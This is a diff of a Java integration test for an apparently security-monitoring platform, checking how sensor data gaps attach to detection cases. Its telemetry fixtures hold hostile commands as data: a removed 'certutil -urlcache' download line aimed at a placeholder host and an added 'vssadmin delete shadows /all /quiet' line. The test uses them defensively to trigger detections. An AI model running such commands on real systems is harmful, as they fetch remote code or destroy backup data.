@@ -17,10 +17,6 @@ import org.junit.jupiter.api.extension.RegisterExtension;
 /** What is missing of the records of sensors, on the cases whose window it touches, and on no other. */
 class CaseGapsIT {
 
-    private static final String RECORD = """
-            {"asset":"host:%s","logsource":{"product":"windows","category":"process_creation"},\
-            "fields":{"Image":"C:\\\\Windows\\\\System32\\\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/y"}}""";
-
     @RegisterExtension
     static final RunningNode NODE = RunningNode.standard();
 
@@ -29,11 +25,16 @@ class CaseGapsIT {
     }
 
     private static String caseOf(String asset, String sensor) {
-        RunningNode.telemetry(NODE.administrator().as(sensor), RECORD.formatted(asset));
+        RunningNode.telemetry(NODE.administrator().as(sensor), """
+            {"asset":"%s","time":"2026-11-24T22:26:52.123Z",\
+            "logsource":{"product":"windows","category":"process_creation"},\
+            "fields":{"Image":"C:\\\\Windows\\\\System32\\\\vssadmin.exe","User":"CORP\\\\eve",\
+            "CommandLine":"vssadmin.exe delete shadows /all /quiet"}}
+            """.formatted(asset));
         List<JsonNode> found = new ArrayList<>();
         await().untilAsserted(() -> {
             found.clear();
-            found.addAll(NODE.list("/api/v1/cases?asset=host:" + asset));
+            found.addAll(NODE.list("/api/v1/cases?q=" + asset));
             assertThat(found).hasSize(1);
         });
         return found.getFirst().path("id").asText();
@@ -69,7 +70,9 @@ class CaseGapsIT {
         String id = caseOf("ws-1", one.path("credential").asText());
         String another = caseOf("ws-2", other.path("credential").asText());
         Instant from = Instant.parse(shown(id).path("gapsWithin").path("from").asText());
-        assertThat(shown(id).path("gapsWithin").path("to").isNull()).as("it is open").isTrue();
+        assertThat(shown(id).path("gapsWithin").path("to").isNull())
+                .as("it is open")
+                .isTrue();
         String sensor = one.path("sensor").asText();
         lost(sensor, 1, from.minusSeconds(7200), from.minusSeconds(3600));
         lost(sensor, 2, from.minusSeconds(7200), from.plusSeconds(1));
@@ -84,11 +87,18 @@ class CaseGapsIT {
         await().untilAsserted(() ->
                 assertThat(shown(id).path("gapsWithin").path("to").isTextual()).isTrue());
         String resolved = shown(id).path("gapsWithin").path("to").asText();
-        lost(sensor, 5, Instant.parse(resolved).plusSeconds(60), Instant.parse(resolved).plusSeconds(61));
+        lost(
+                sensor,
+                5,
+                Instant.parse(resolved).plusSeconds(60),
+                Instant.parse(resolved).plusSeconds(61));
         lost(sensor, 6, from.plusSeconds(1), Instant.parse(resolved).plusSeconds(61));
-        NODE.administrator().post("/api/v1/cases/" + id + "/comments", "{\"text\":\"afterwards\"}");
-        await().untilAsserted(() -> assertThat(shown(id).path("updatedAt").asText()).isGreaterThan(resolved));
-        assertThat(shown(id).path("gapsWithin").path("to").asText()).as("a comment makes it no longer").isEqualTo(resolved);
+        NODE.administrator().post("/api/v1/cases/" + id + "/notes", "{\"text\":\"afterwards\"}");
+        await().untilAsserted(
+                        () -> assertThat(shown(id).path("updatedAt").asText()).isGreaterThan(resolved));
+        assertThat(shown(id).path("gapsWithin").path("to").asText())
+                .as("a comment makes it no longer")
+                .isEqualTo(resolved);
         assertThat(gaps(shown(id))).containsExactlyInAnyOrder(2L, 3L, 6L);
     }
 }
